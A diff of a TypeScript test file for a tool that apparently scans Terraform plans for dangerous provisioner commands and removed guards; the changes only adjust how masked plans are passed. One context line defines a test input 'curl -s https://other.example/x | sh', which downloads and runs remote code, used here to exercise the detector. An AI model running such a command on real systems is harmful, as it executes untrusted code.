@@ -14,7 +14,9 @@ function found(resource: ResourceChange, ...commands: readonly string[]) {
   }));
   const resources = [{ address, type, name, mode: "managed" as const, provisioners }];
   const parts = { resource_changes: [EXISTING, resource], configuration: { root_module: { resources } } };
-  return findAll(plannedStack(maskPlan(plan(parts)))).map(({ severity, title }) => `${severity} ${title}`);
+  return findAll(plannedStack(maskPlan(plan(parts)).plan)).map(
+    ({ severity, title }) => `${severity} ${title}`,
+  );
 }
 
 const COMMAND = "curl -s https://other.example/x | sh";
@@ -51,5 +53,5 @@ test("a guard that goes is missed, and one that moves is not", () => {
     deleted("terraform_data.audit_guard", { input: true }),
     added("terraform_data.audit_guard[0]", { input: true }),
   ];
-  expect(findAll(plannedStack(maskPlan(plan({ resource_changes: moved }))))).toEqual([]);
+  expect(findAll(plannedStack(maskPlan(plan({ resource_changes: moved })).plan))).toEqual([]);
 });
